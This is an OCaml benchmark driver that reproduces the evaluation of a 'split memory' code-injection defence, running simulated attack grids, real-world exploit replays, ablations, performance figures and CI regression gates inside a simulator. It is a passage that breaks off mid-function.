(* Regenerates every table and figure of the paper's evaluation (§6).
   Usage: main.exe [-j N] [--json FILE] [--scale-gate RATIO]
            [table1|table2|fig5|fig6|fig7|fig8|fig9|ablation|micro|scale]...
   With no experiment argument, runs the full reproduction suite
   (everything except the bechamel microbenchmarks).

   Every grid-shaped experiment fans its machines out over a Fleet worker
   pool of [-j N] domains (default: the machine's recommended domain
   count). Results are consumed in submission order, so the rendered
   tables and figures are byte-identical for every N. *)

let out fmt = Fmt.pr (fmt ^^ "@.")

(* Worker-domain count, set by -j/--jobs before dispatch. *)
let jobs = ref (Fleet.default_jobs ())

(* --- Table 1: the Wilander-style benchmark ------------------------------ *)

let table1 () =
  let mark = function
    | Error (e : Fleet.error) -> "error: " ^ e.reason
    | Ok outcome ->
      if Attack.Runner.is_foiled outcome then "foiled"
      else if Attack.Runner.is_attack_success outcome then "SHELL!"
      else "crash"
  in
  let cells =
    List.concat_map
      (fun t -> List.map (fun l -> (t, l)) Attack.Wilander.locations)
      Attack.Wilander.techniques
  in
  (* One job per grid cell; each runs the cell under split memory and the
     unprotected control on its own pair of machines. *)
  let outcomes =
    Fleet.map ~jobs:!jobs
      ~label:(fun (t, l) ->
        Attack.Wilander.technique_name t ^ "/" ^ Attack.Wilander.location_name l)
      (fun (t, l) ->
        ( Attack.Wilander.run ~defense:Defense.split_standalone t l,
          Attack.Wilander.run ~defense:Defense.unprotected t l ))
      cells
  in
  let n_loc = List.length Attack.Wilander.locations in
  let cell ti li = List.nth outcomes ((ti * n_loc) + li) in
  let rows =
    List.mapi
      (fun ti t ->
        Attack.Wilander.technique_name t
        :: List.mapi (fun li _ -> mark (Result.map fst (cell ti li)))
             Attack.Wilander.locations)
      Attack.Wilander.techniques
  in
  out "%s"
    (Report.table
       ~title:
         "Table 1: benchmark attacks under split memory, by injected-code location\n\
          (paper: 20 live cases + 4 N/A, all foiled; this reconstruction exercises\n\
          9 techniques x 4 segments = 36 live cases, incl. the pointer-redirect class)"
       ~header:("hijack technique" :: List.map Attack.Wilander.location_name Attack.Wilander.locations)
       rows);
  let unprot_all =
    List.for_all
      (function
        | Ok (_, unprot) -> Attack.Runner.is_attack_success unprot
        | Error _ -> false)
      outcomes
  in
  let combos = List.length cells in
  out "control: all %d combinations spawn a shell on the unprotected kernel: %b@." combos
    unprot_all

(* --- Table 2: the five real-world attacks ------------------------------- *)

let table2 () =
  let runs =
    Fleet.map ~jobs:!jobs
      ~label:(fun id -> (Attack.Realworld.info id).package)
      (fun id ->
        ( Attack.Realworld.run ~defense:Defense.unprotected id,
          Attack.Realworld.run ~defense:Defense.split_standalone id ))
      Attack.Realworld.all
  in
  let rows =
    List.map2
      (fun id run ->
        let info = Attack.Realworld.info id in
        let unprot, split =
          match run with
          | Ok (u, s) -> (Attack.Runner.outcome_name u, Attack.Runner.outcome_name s)
          | Error (e : Fleet.error) -> ("error: " ^ e.reason, "error: " ^ e.reason)
        in
        [ info.package; info.version; info.vuln; unprot; split ])
      Attack.Realworld.all runs
  in
  out "%s"
    (Report.table
       ~title:
         "Table 2: real-world vulnerabilities (paper: all five exploits succeed\n\
          unpatched and are foiled by split memory)"
       ~header:[ "package"; "version"; "vulnerability"; "unprotected"; "split memory" ]
       rows)

(* --- Fig. 5: response modes against the WU-FTPD exploit ----------------- *)

(* Interactive exploit sessions (driver feeds stdin between runs) stay
   sequential: their value is the annotated kernel log, not throughput. *)

let show_log title (k : Kernel.Os.t) =
  out "--- %s ---" title;
  List.iter
    (fun e -> out "  %s" (Fmt.str "%a" Kernel.Event_log.pp_event e))
    (Kernel.Event_log.to_list (Kernel.Os.log k));
  out ""

let fig5 () =
  out "Fig. 5: response modes against the WU-FTPD exploit@.";
  let break = Defense.split_with ~response:Split_memory.Response.Break () in
  let o, s = Attack.Realworld.run_wuftpd ~defense:break () in
  out "(a) break mode: %s" (Attack.Runner.outcome_name o);
  show_log "kernel log" s.k;
  let observe =
    Defense.split_with ~response:(Split_memory.Response.Observe { sebek = true }) ()
  in
  let o, s = Attack.Realworld.run_wuftpd ~defense:observe ~commands:[ "id"; "uname -a"; "q" ] () in
  out "(b)+(d) observe mode with Sebek logging: %s" (Attack.Runner.outcome_name o);
  show_log "kernel log (note the traced attacker keystrokes)" s.k;
  let forensics =
    Defense.split_with ~response:(Split_memory.Response.Forensics { payload = None }) ()
  in
  let o, s = Attack.Realworld.run_wuftpd ~defense:forensics () in
  out "(c) forensics mode: %s" (Attack.Runner.outcome_name o);
  show_log "kernel log (first 20 bytes of shellcode — note the 0x90 NOP sled)" s.k;
  let forensic_exit =
    Defense.split_with
      ~response:(Split_memory.Response.Forensics { payload = Some Attack.Shellcode.exit0 })
      ()
  in
  let o, s = Attack.Realworld.run_wuftpd ~defense:forensic_exit () in
  out "(c') forensics with injected exit(0) shellcode: %s" (Attack.Runner.outcome_name o);
  show_log "kernel log" s.k

(* --- Figures 6-9 --------------------------------------------------------- *)

let with_reference points refs =
  List.map2
    (fun (p : Workload.Figures.point) r ->
      (Fmt.str "%s (paper %.2f)" p.x r, p.value))
    points refs

let fig6 () =
  let points = Workload.Figures.fig6 ~jobs:!jobs () in
  out "%s"
    (Report.bars ~title:"Fig. 6: normalized performance, stand-alone split memory"
       (with_reference points [ 0.89; 0.87; 0.97; 0.82 ]))

let fig7 () =
  let points = Workload.Figures.fig7 ~jobs:!jobs () in
  out "%s"
    (Report.bars ~title:"Fig. 7: stress tests (context-switch heavy)"
       (with_reference points [ 0.45; 0.45 ]))

let fig8 () =
  let points = Workload.Figures.fig8 ~jobs:!jobs () in
  out "%s"
    (Report.bars ~title:"Fig. 8: Apache throughput vs served page size (split memory)"
       (List.map (fun (p : Workload.Figures.point) -> (p.x, p.value)) points))

let fig9 () =
  let points = Workload.Figures.fig9 ~jobs:!jobs () in
  out "%s"
    (Report.bars
       ~title:
         "Fig. 9: pipe-based ctxsw with a fraction of pages split (rest via NX)\n\
          (paper: ~80%% of full speed at 10%% split)"
       (List.map (fun (p : Workload.Figures.point) -> (p.x, p.value)) points))

(* --- Ablations ----------------------------------------------------------- *)

let ablation () =
  let outcome_cell = function
    | Ok o -> Attack.Runner.outcome_name o
    | Error (e : Fleet.error) -> "error: " ^ e.reason
  in
  out "Ablation A: DEP/NX bypass via mmap-RWX gadget (paper S2, ref [4])";
  let nx_rows =
    [ ("unprotected", Defense.unprotected);
      ("nx bit", Defense.nx);
      ("split memory", Defense.split_standalone) ]
  in
  let nx_runs =
    Fleet.map ~jobs:!jobs ~label:fst
      (fun (_, d) -> Attack.Bypass.run_nx_bypass ~defense:d ())
      nx_rows
  in
  out "%s"
    (Report.table ~title:"" ~header:[ "defense"; "outcome" ]
       (List.map2 (fun (n, _) r -> [ n; outcome_cell r ]) nx_rows nx_runs));
  out "Ablation B: mixed code+data page (paper Fig. 1b, JavaVM/JIT case)";
  let mixed_rows =
    [ ("unprotected", Defense.unprotected);
      ("nx bit", Defense.nx);
      ("split(mixed-only)+nx", Defense.split_mixed_plus_nx);
      ("split stand-alone", Defense.split_standalone) ]
  in
  let mixed_runs =
    Fleet.map ~jobs:!jobs ~label:fst
      (fun (_, d) -> Attack.Bypass.run_mixed_page ~defense:d ())
      mixed_rows
  in
  out "%s"
    (Report.table ~title:"" ~header:[ "defense"; "outcome" ]
       (List.map2 (fun (n, _) r -> [ n; outcome_cell r ]) mixed_rows mixed_runs));
  let unprot, eager, demand = Workload.Figures.memory_overhead ~jobs:!jobs () in
  out
    "Ablation C: memory overhead (peak frames) — unprotected %d, eager split %d,\n\
     demand split %d (paper S5.1: prototype doubles memory; demand paging avoids it)@."
    unprot eager demand;
  let single_step, ret_gadget = Workload.Figures.itlb_method_ablation ~jobs:!jobs () in
  out
    "Ablation D: ITLB load method, pipe-ctxsw cycles — single-step %d, ret-gadget %d\n\
     (paper S4.2.4: the ret-instruction variant was measurably slower)@."
    single_step ret_gadget;
  out "Ablation F: implementation mechanisms on the ctxsw stress test";
  out "%s"
    (Report.bars ~title:"(each vs the stock kernel on its own hardware)"
       (Workload.Figures.mechanisms_ablation ~jobs:!jobs ()));
  out "Ablation G: TLB capacity sweep (ctxsw stress, stand-alone split)";
  out "%s"
    (Report.bars ~title:"(overhead is flush-driven: capacity barely matters)"
       (List.map
          (fun (cap, v) -> (Fmt.str "%3d entries" cap, v))
          (Workload.Figures.tlb_capacity_sweep ~jobs:!jobs ())));
  out
    "Ablation H: combined deployment (split mixed-only + NX) on the Fig. 6\n\
     workloads — the paper's S4.2.1 claim of very low overhead:";
  out "%s"
    (Report.bars ~title:""
       (List.map
          (fun (p : Workload.Figures.point) -> (p.x, p.value))
          (Workload.Figures.fig6 ~jobs:!jobs ~defense:Defense.split_mixed_plus_nx ())));
  out "Ablation E: samba brute force under randomization";
  (* The brute-force session is a feedback loop (each attempt adapts to the
     previous detection), so it stays sequential. *)
  let r = Attack.Realworld.run_samba ~defense:Defense.unprotected () in
  out "  unprotected: %s after %d attempts"
    (Attack.Runner.outcome_name r.outcome)
    r.attempts;
  let r = Attack.Realworld.run_samba ~defense:Defense.split_standalone ~max_attempts:8 () in
  out "  split memory: %s after %d attempts (%d detections)@."
    (Attack.Runner.outcome_name r.outcome)
    r.attempts r.detections


(* --- Limitations (paper S7) ---------------------------------------------- *)

let limitations () =
  out "Limitations (paper S7): what split memory does NOT stop";
  let defenses =
    [
      ("unprotected", Defense.unprotected);
      ("nx bit", Defense.nx);
      ("split memory", Defense.split_standalone);
    ]
  in
  let ncd =
    List.map
      (fun (n, d) ->
        [ "non-control-data (flag flip)"; n;
          (if Attack.Limitations.run_non_control_data ~defense:d () then "secret leaked"
           else "denied") ])
      defenses
  in
  let r2c =
    List.map
      (fun (n, d) ->
        [ "return into existing code"; n;
          Attack.Runner.outcome_name (Attack.Limitations.run_ret_into_code ~defense:d ()) ])
      defenses
  in
  let smc =
    List.map
      (fun (n, d) ->
        [ "self-modifying code (benign)"; n;
          (match Attack.Limitations.run_self_modifying ~defense:d () with
          | Attack.Runner.Completed 55 -> "works"
          | o -> "broken: " ^ Attack.Runner.outcome_name o) ])
      defenses
  in
  out "%s"
    (Report.table ~title:"" ~header:[ "case"; "defense"; "result" ] (ncd @ r2c @ smc));
  out
    "Split memory stops the execution of injected code and nothing more: data-only\n\
     attacks and code-reuse attacks require complements (ASLR, CFI), and programs\n\
     that legitimately execute what they write cannot run split (S7).@."

(* --- defense x attack matrix (lib/reuse) --------------------------------- *)

(* The §7 cross-product made a table: injection representatives plus the
   code-reuse attacks against every defense configuration. Every cell is
   an independent machine fanned over the fleet; submission-order results
   keep the rendered bytes identical at any -j. Exits non-zero on any
   cell the threat model does not predict — the CI gate that pins
   "reuse escapes split alone" and "CFI stops it, alone or composed". *)
let matrix_exp () =
  out "Defense x attack matrix (injection vs code reuse, paper §7):";
  let cells = Reuse.Campaign.matrix ~jobs:!jobs () in
  out "%s" (Fmt.str "%a" Reuse.Campaign.render cells);
  if not (Reuse.Campaign.check cells) then begin
    Fmt.epr "matrix deviates from the threat model@.";
    exit 1
  end

(* --- Bechamel microbenchmarks (wall-clock of the simulator itself) ------ *)

let micro () =
  let open Bechamel in
  let quick name f = Test.make ~name (Staged.stage f) in
  let tests =
    [
      quick "table1-cell: grid attack under split" (fun () ->
          ignore
            (Attack.Wilander.run ~defense:Defense.split_standalone Attack.Wilander.Ret_addr
               Attack.Wilander.Stack));
      quick "table2-row: apache attack under split" (fun () ->
          ignore
            (Attack.Realworld.run ~defense:Defense.split_standalone Attack.Realworld.Apache_ssl));
      quick "fig5: wuftpd observe mode" (fun () ->
          ignore
            (Attack.Realworld.run_wuftpd
               ~defense:
                 (Defense.split_with
                    ~response:(Split_memory.Response.Observe { sebek = false })
                    ())
               ()));
      quick "fig6-point: nbench under split" (fun () ->
          ignore
            (Workload.Harness.run_single ~defense:Defense.split_standalone
               (Workload.Guests.nbench ~iters:5 ())));
      quick "fig7-point: pipe ctxsw under split" (fun () ->
          ignore (Workload.Figures.run_ctxsw ~defense:Defense.split_standalone ~iters:20 ()));
      quick "fig8-point: apache 4KB under split" (fun () ->
          ignore
            (Workload.Figures.run_apache ~defense:Defense.split_standalone ~size:4096
               ~requests:3 ()));
      quick "fig9-point: ctxsw at 50% split" (fun () ->
          ignore
            (Workload.Figures.run_ctxsw ~defense:(Defense.split_fraction 50) ~iters:20 ()));
    ]
  in
  let benchmark test =
    let instances = [ Toolkit.Instance.monotonic_clock ] in
    let cfg = Benchmark.cfg ~limit:50 ~quota:(Time.second 0.25) ~stabilize:false () in
    Benchmark.all cfg instances test
  in
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |]
  in
  out "Bechamel microbenchmarks (simulator wall-clock per experiment unit):";
  List.iter
    (fun test ->
      let results = benchmark (Test.make_grouped ~name:"experiments" [ test ]) in
      Hashtbl.iter
        (fun _clock per_test ->
          Hashtbl.iter
            (fun name raw ->
              let est = Analyze.one ols Toolkit.Instance.monotonic_clock raw in
              match Analyze.OLS.estimates est with
              | Some [ ns ] -> out "  %-50s %12.0f ns/run" name ns
              | Some _ | None -> out "  %-50s (no estimate)" name)
            per_test)
        (let tbl = Hashtbl.create 1 in
         Hashtbl.add tbl "clock" results;
         tbl))
    tests

(* --- snapshot/restore throughput (lib/snap) ------------------------------ *)

let snap_exp () =
  let scenario name =
    match Snap.Scenario.find name with Some s -> s | None -> assert false
  in
  let s = scenario "benign" in
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:1500 os : Kernel.Os.stop_reason);
  let snap = Snap.Snapshot.checkpoint os in
  let blob = Snap.Snapshot.encode snap in
  let mib = float_of_int (String.length blob) /. 1048576. in
  let time_n n f =
    let t0 = Sys.time () in
    for _ = 1 to n do
      f ()
    done;
    (Sys.time () -. t0) /. float_of_int n
  in
  let n = 200 in
  let t_ckpt = time_n n (fun () -> ignore (Snap.Snapshot.checkpoint os : Snap.Snapshot.t)) in
  let t_enc = time_n n (fun () -> ignore (Snap.Snapshot.encode snap : string)) in
  let t_dec = time_n n (fun () -> ignore (Snap.Snapshot.decode blob : Snap.Snapshot.t)) in
  let t_rest = time_n n (fun () -> Snap.Snapshot.restore os snap) in
  out
    "Snapshot/restore microbenchmarks (benign scenario at cycle %d; %d frames\n\
     written, %d all-zero skipped; %.2f MiB encoded; %d iterations):"
    (Snap.Snapshot.cycle snap)
    (Snap.Snapshot.frames_written snap)
    (Snap.Snapshot.frames_sparse_skipped snap)
    mib n;
  out "  checkpoint %8.3f ms/op    restore %8.3f ms/op" (t_ckpt *. 1e3) (t_rest *. 1e3);
  out "  encode     %8.1f MiB/s    decode  %8.1f MiB/s" (mib /. t_enc) (mib /. t_dec);
  (* Warm start: resuming from the checkpoint skips the instructions behind
     it but pays a full physical-memory rebuild, so the wall-clock win only
     materializes on long runs; the invariant that matters is that both
     paths end on the identical final cycle count. *)
  let m = 20 in
  let cold_cycles = ref 0 and warm_cycles = ref 0 in
  let t_cold =
    time_n m (fun () ->
        let k = s.start () in
        ignore (Kernel.Os.run ~fuel:2_000_000 k : Kernel.Os.stop_reason);
        cold_cycles := (Kernel.Os.cost k).cycles)
  in
  let t_warm =
    time_n m (fun () ->
        let k = s.start () in
        Snap.Snapshot.restore k snap;
        ignore (Kernel.Os.run ~fuel:2_000_000 k : Kernel.Os.stop_reason);
        warm_cycles := (Kernel.Os.cost k).cycles)
  in
  out
    "  warm start: cold run %.3f ms vs restore+resume %.3f ms (%.2fx);\n\
     \  both end at cycle %d (warm %d) from checkpoint cycle %d"
    (t_cold *. 1e3) (t_warm *. 1e3)
    (t_cold /. t_warm)
    !cold_cycles !warm_cycles (Snap.Snapshot.cycle snap)

(* --- calibration detail (not part of the reproduction output) ----------- *)

let calib () =
  let show name (r : Workload.Harness.result) =
    out "%-28s %-22s cycles=%9d insns=%8d traps=%6d split=%6d ss=%5d ctxsw=%5d itlbm=%6d dtlbm=%6d"
      name r.defense r.cycles r.insns r.traps r.split_faults r.single_steps
      r.ctx_switches r.itlb_misses r.dtlb_misses
  in
  let both name f =
    show name (f Defense.unprotected);
    show name (f Defense.split_standalone)
  in
  both "apache-32K" (fun d -> Workload.Figures.run_apache ~defense:d ~size:32768 ~requests:25 ());
  both "apache-1K" (fun d -> Workload.Figures.run_apache ~defense:d ~size:1024 ~requests:25 ());
  both "gzip" (fun d -> Workload.Figures.run_gzip ~defense:d ~size:(48*1024) ());
  both "ctxsw" (fun d -> Workload.Figures.run_ctxsw ~defense:d ~iters:250 ());
  List.iter
    (fun (n, v) -> out "  nbench %-22s %.3f" n v)
    (Workload.Figures.nbench_results ~jobs:!jobs ~defense:Defense.split_standalone ());
  List.iter
    (fun (n, v) -> out "  unixbench %-20s %.3f" n v)
    (Workload.Figures.unixbench_pieces ~jobs:!jobs ~defense:Defense.split_standalone ())

(* --- allocation gate (minor words per simulated instruction) ------------- *)

(* The MMU fast path keeps the CPU step loop nearly allocation-free; these
   numbers watch it. Measured around the run only (machine construction
   excluded), on one domain, so [Gc.minor_words] sees exactly the run's
   allocations — deterministic for a given build. *)

let quickstart_image () =
  let open Isa.Asm in
  Kernel.Image.build ~name:"greeter"
    ~data:(fun ~lbl:_ -> [ L "msg"; Bytes "hello from the guest!\n" ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_write_imm ~buf:(lbl "msg") ~len:22 ()) @ Guest.sys_exit 0)
    ~entry:"main" ()

let alloc_per_insn (s : Workload.Harness.spec) =
  let k = Workload.Harness.build s in
  let w0 = Gc.minor_words () in
  ignore (Kernel.Os.run ~fuel:s.fuel k : Kernel.Os.stop_reason);
  let w1 = Gc.minor_words () in
  let insns = (Kernel.Os.cost k).insns in
  (w1 -. w0) /. float_of_int insns

(* "quickstart" is the README's greeter guest under stand-alone split
   memory; "fig7_ctxsw" is the TLB-flush-heavy pipe context-switch stress
   test, where per-step translation allocations dominate. *)
let alloc_numbers () =
  [
    ( "quickstart",
      alloc_per_insn
        (Workload.Harness.single ~defense:Defense.split_standalone (quickstart_image ())) );
    ( "fig7_ctxsw",
      alloc_per_insn
        (Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:250) );
  ]

let alloc () =
  out "Minor-heap allocation per simulated instruction (run only):";
  List.iter (fun (n, v) -> out "  %-12s %8.2f minor words/insn" n v) (alloc_numbers ())

(* Gate against a committed baseline ("<name> <value>" lines); fails the
   process when any number regresses more than 10%. *)
let alloc_gate baseline_file =
  let baseline =
    let ic = open_in baseline_file in
    let rec go acc =
      match input_line ic with
      | line -> (
        match String.split_on_char ' ' (String.trim line) with
        | [ name; v ] -> go ((name, float_of_string v) :: acc)
        | _ -> go acc)
      | exception End_of_file ->
        close_in ic;
        List.rev acc
    in
    go []
  in
  let failures = ref 0 in
  List.iter
    (fun (name, got) ->
      match List.assoc_opt name baseline with
      | None ->
        out "alloc-gate: %-12s %8.2f words/insn (no baseline; add it)" name got;
        incr failures
      | Some base ->
        let limit = base *. 1.10 in
        if got > limit then begin
          out "alloc-gate: %-12s REGRESSED: %.2f words/insn vs baseline %.2f (+%.1f%%, limit +10%%)"
            name got base
            ((got /. base -. 1.) *. 100.);
          incr failures
        end
        else begin
          out "alloc-gate: %-12s ok: %.2f words/insn vs baseline %.2f (%+.1f%%)" name got
            base
            ((got /. base -. 1.) *. 100.);
          if got < base *. 0.90 then
            out "alloc-gate: %-12s improved >10%% — consider re-baselining" name
        end)
    (alloc_numbers ());
  if !failures > 0 then exit 1

(* --- decoded-block-cache throughput (lib/hw/bbcache) --------------------- *)

(* The block cache is a pure dispatch optimization — provably equivalent
   (the test suite diffs event logs and counters on vs off) — so the only
   number that matters here is wall-clock. Workloads are the same two the
   allocation gate watches: the README quickstart and the TLB-flush-heavy
   fig7 context-switch stress. *)

let bbcache_specs () =
  [
    ( "quickstart",
      Workload.Harness.single ~defense:Defense.split_standalone (quickstart_image ()) );
    ("fig7_ctxsw", Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:250);
  ]

(* Run one spec with the cache forced on or off, returning the machine (its
   cache stats are read afterwards) and the run's wall-clock in
   microseconds — machine construction excluded, like the alloc gate. *)
let timed_run ~bbcache (s : Workload.Harness.spec) =
  let saved = !Kernel.Machine.bbcache_default in
  Kernel.Machine.bbcache_default := bbcache;
  Fun.protect
    ~finally:(fun () -> Kernel.Machine.bbcache_default := saved)
    (fun () ->
      let k = Workload.Harness.build s in
      let t0 = Unix.gettimeofday () in
      ignore (Kernel.Os.run ~fuel:s.fuel k : Kernel.Os.stop_reason);
      (k, int_of_float ((Unix.gettimeofday () -. t0) *. 1e6)))

(* Best-of-N wall-clock: the minimum is the run least disturbed by the
   host, the standard discipline for gating on timing. *)
let best_us ~bbcache ?(n = 3) s =
  let rec go best k i =
    if i >= n then (k, best)
    else
      let k', us = timed_run ~bbcache s in
      if us < best then go us k' (i + 1) else go best k (i + 1)
  in
  let k0, us0 = timed_run ~bbcache s in
  go us0 k0 1

let bbcache_measure s =
  let k_on, us_on = best_us ~bbcache:true s in
  let _, us_off = best_us ~bbcache:false s in
  let stats =
    match Kernel.Os.bbcache k_on with
    | Some c -> Hw.Bbcache.stats c
    | None -> assert false (* just built with ~bbcache:true *)
  in
  let ipb =
    match Kernel.Os.bbcache k_on with Some c -> Hw.Bbcache.insns_per_block c | None -> 0.0
  in
  (us_on, us_off, stats, ipb)

let bbcache_exp () =
  out "Decoded basic-block cache: wall-clock with the cache on vs off";
  out "  (identical simulations — same event logs, cycle counts, outcomes)";
  List.iter
    (fun (name, spec) ->
      let us_on, us_off, (st : Hw.Bbcache.stats), ipb = bbcache_measure spec in
      out "  %-12s on %8d us   off %8d us   speedup %.2fx" name us_on us_off
        (float_of_int us_off /. float_of_int us_on);
      out "  %-12s blocks %d  insns/block %.1f  hits %d  misses %d  invalidations %d" ""
        st.blocks_built ipb st.hits st.misses st.invalidations)
    (bbcache_specs ())

(* Gate against a committed floor ("<name> <min_speedup>" lines): fails the
   process when the cache-on/cache-off wall-clock ratio of any listed
   workload drops below its floor. Self-relative, so the gate is
   machine-independent — a slow CI runner slows both sides. *)
let throughput_gate baseline_file =
  let baseline =
    let ic = open_in baseline_file in
    let rec go acc =
      match input_line ic with
      | line -> (
        match String.split_on_char ' ' (String.trim line) with
        | [ name; v ] -> go ((name, float_of_string v) :: acc)
        | _ -> go acc)
      | exception End_of_file ->
        close_in ic;
        List.rev acc
    in
    go []
  in
  let failures = ref 0 in
  List.iter
    (fun (name, spec) ->
      match List.assoc_opt name baseline with
      | None -> ()
      | Some floor ->
        let us_on, us_off, _, _ = bbcache_measure spec in
        let speedup = float_of_int us_off /. float_of_int us_on in
        if speedup < floor then begin
          out "throughput-gate: %-12s REGRESSED: %.2fx on-vs-off speedup (floor %.2fx)" name
            speedup floor;
          incr failures
        end
        else out "throughput-gate: %-12s ok: %.2fx on-vs-off speedup (floor %.2fx)" name speedup floor)
    (bbcache_specs ());
  if !failures > 0 then exit 1

(* --- scale-out experiments (10k-process machines) ------------------------ *)

(* One image, built once: spawn verification/digest memoization and the
   loader COW registry are exactly what the experiment measures. *)
let scale_image = lazy (Workload.Guests.scale_unit ~rounds:2 ())

(* quantum 32 (< the ~150-insn guest) so the guests interleave and are
   all resident at once — peak frames then shows the COW sharing instead
   of one guest's working set at a time. *)
let scale_spec ?(share = true) n =
  let module H = Workload.Harness in
  let img = Lazy.force scale_image in
  H.spec
    ~label:(Fmt.str "scale-%d%s" n (if share then "" else "-noshare"))
    ~frames:32768 ~fuel:200_000_000 ~quantum:32 ~share_images:share
    ~defense:Defense.split_mixed_plus_nx
    (List.init n (fun _ -> H.guest img))

let scale_grid = [ (100, true); (500, true); (500, false); (2000, true) ]

let scale_results () =
  let module H = Workload.Harness in
  List.combine scale_grid
    (H.run_fleet_exn ~jobs:!jobs
       (List.map (fun (n, share) -> scale_spec ~share n) scale_grid))

(* Deterministic counters only — the CI scale smoke diffs this output
   between -j values, so no wall-clock lines here. *)
let scale_exp () =
  let module H = Workload.Harness in
  out "Scale-out: N identical COW-shared guests under split memory + NX";
  out "  (deterministic counters — byte-identical for every -j)";
  let results = scale_results () in
  List.iter
    (fun (_, (r : H.result)) ->
      out "  %-18s cycles %10d  insns %8d  ctxsw %6d  peak frames %6d" r.label
        r.cycles r.insns r.ctx_switches r.peak_frames)
    results;
  match (List.assoc_opt (500, true) results, List.assoc_opt (500, false) results) with
  | Some shared, Some noshare ->
    out "  shared-image COW at N=500: peak frames %d vs %d unshared (%.1fx less memory)"
      shared.peak_frames noshare.peak_frames
      (float_of_int noshare.peak_frames /. float_of_int shared.peak_frames)
  | _ -> ()

(* Per-process wall-clock must stay flat as the machine grows: O(1)
   scheduling, indexed wakeups, the bitmap allocator and memoized spawns
   keep the 10k-process per-process cost within [max_ratio]x of the
   100-process baseline. Self-relative, so the gate is machine-independent. *)
let scale_gate_measure () =
  let _, us100 = best_us ~bbcache:true (scale_spec 100) in
  let _, us10k = best_us ~bbcache:true (scale_spec 10_000) in
  let per100 = float_of_int us100 /. 100. in
  let per10k = float_of_int us10k /. 10_000. in
  (per100, per10k, per10k /. per100)

let scale_gate max_ratio =
  let per100, per10k, ratio = scale_gate_measure () in
  out "scale-gate: per-process wall  100 procs %.2f us   10000 procs %.2f us   ratio %.2fx (max %.2fx)"
    per100 per10k ratio max_ratio;
  if ratio > max_ratio then begin
    out "scale-gate: REGRESSED";
    exit 1
  end

(* --- traffic-at-scale serving benchmark (lib/serve) ---------------------- *)

(* The headline "requests/sec vs. defense" sweep: concurrency up to 32
   closed-loop Apache-shaped pairs per machine, knee = lowest concurrency
   within 97% of each defense's peak. Deterministic counters only, so the
   output is byte-identical for every -j. *)
let serve_exp () =
  out "Serving under load: knee analysis per protection mode";
  out "  (simulated throughput, deterministic — byte-identical for every -j)";
  let t = Serve.Sweep.run ~jobs:!jobs ~concurrencies:[ 1; 2; 4; 8; 16; 32 ] ~reps:3
      ~requests:16 ()
  in
  out "%s" (Serve.Sweep.render t)

(* The gate's fixed sweep: split memory alone, small but past its knee. *)
let serve_gate_sweep () =
  Serve.Sweep.run ~jobs:!jobs
    ~defenses:[ Defense.split_standalone ]
    ~concurrencies:[ 1; 2; 4; 8; 16 ] ~reps:2 ~requests:12 ()

(* Gate against a committed baseline ("<name> <value>" lines): the knee
   concurrency must match exactly and knee throughput must stay within
   [ratio] of the baseline, both ways — simulated req/Mcyc is
   deterministic, so drift in either direction means the cost model or
   the scheduler changed and the baseline must be re-examined. *)
let serve_gate baseline_file =
  let baseline =
    let ic = open_in baseline_file in
    let rec go acc =
      match input_line ic with
      | line -> (
        match String.split_on_char ' ' (String.trim line) with
        | [ name; v ] -> go ((name, float_of_string v) :: acc)
        | _ -> go acc)
      | exception End_of_file ->
        close_in ic;
        List.rev acc
    in
    go []
  in
  let t = serve_gate_sweep () in
  match t.Serve.Sweep.curves with
  | [ cv ] ->
    let failures = ref 0 in
    (match List.assoc_opt "split_knee_concurrency" baseline with
    | Some base when int_of_float base <> cv.Serve.Sweep.knee_concurrency ->
      out "serve-gate: knee concurrency MOVED: %d vs baseline %d"
        cv.Serve.Sweep.knee_concurrency (int_of_float base);
      incr failures
    | Some base ->
      out "serve-gate: knee concurrency ok: %d (baseline %d)"
        cv.Serve.Sweep.knee_concurrency (int_of_float base)
    | None ->
      out "serve-gate: no split_knee_concurrency baseline; add it";
      incr failures);
    (match List.assoc_opt "split_knee_tput" baseline with
    | Some base ->
      let got = cv.Serve.Sweep.knee_throughput in
      let ratio = 0.10 in
      if got < base *. (1. -. ratio) || got > base *. (1. +. ratio) then begin
        out "serve-gate: knee throughput DRIFTED: %.2f req/Mcyc vs baseline %.2f (band ±%.0f%%)"
          got base (ratio *. 100.);
        incr failures
      end
      else
        out "serve-gate: knee throughput ok: %.2f req/Mcyc vs baseline %.2f" got base
    | None ->
      out "serve-gate: no split_knee_tput baseline; add it";
      incr failures);
    if !failures > 0 then exit 1
  | _ ->
    out "serve-gate: sweep produced no split-memory curve";
    exit 1

(* --- profiler experiments (lib/prof) ------------------------------------- *)

(* Profile-driven policy tables: the TLB capacity x eviction sweep and the
   hot split-page ranking, both fanned over the fleet with submission-order
   merging — the output is identical for every -j. *)
let profile_exp () =
  out "%s"
    (Prof.Experiments.render_tlb_sweep (Prof.Experiments.tlb_sweep ~jobs:!jobs ()));
  out "%s" (Prof.Experiments.hot_page_ranking ~jobs:!jobs ())

(* --- machine-readable export (--json FILE) ------------------------------- *)

(* Run the headline workloads under the stock and split kernels — fanned
   out over the fleet — with a live observability sink, and dump the
   per-run counters (with per-job wall-clock), the fleet's own stats and
   the merged metrics registry as one JSON document.

   Schema split-memory-bench/8: everything /7 had, plus the "serve"
   object — the traffic-at-scale sweep's per-defense throughput curves,
   knee concurrency/throughput and pooled latency percentiles at the
   knee.

   /7 added to /6 the "scale" object — the scale-out grid (N COW-shared
   guests: deterministic counters, peak frames shared vs unshared) and
   the per-process wall-clock ratio of a 10k-process machine against the
   100-process baseline.

   /6 added to /5 the "bbcache" object — per-workload wall-clock with the
   decoded-block cache on vs off, the speedup, and the cache's own
   statistics (hits, misses, invalidations, blocks, insns/block).

   /5 added to /4 (which stacked the "inject" object on /3's "jobs",
   per-benchmark "wall_us", "fleet" and "alloc") the "matrix" object:
   every defense x attack cell of the lib/reuse campaign (outcome,
   expected escape, verdict) and the
   whole-grid check. Earlier consumers keep working: existing fields are
   unchanged, additions are additive. *)
(* Current git revision, read straight from .git (no subprocess): HEAD is
   either a hash or a "ref: ..." pointer into refs/ or packed-refs. *)
let git_rev () =
  let first_line path =
    match open_in path with
    | exception Sys_error _ -> None
    | ic ->
      let line = try Some (input_line ic) with End_of_file -> None in
      close_in ic;
      line
  in
  let packed_ref r =
    match open_in ".git/packed-refs" with
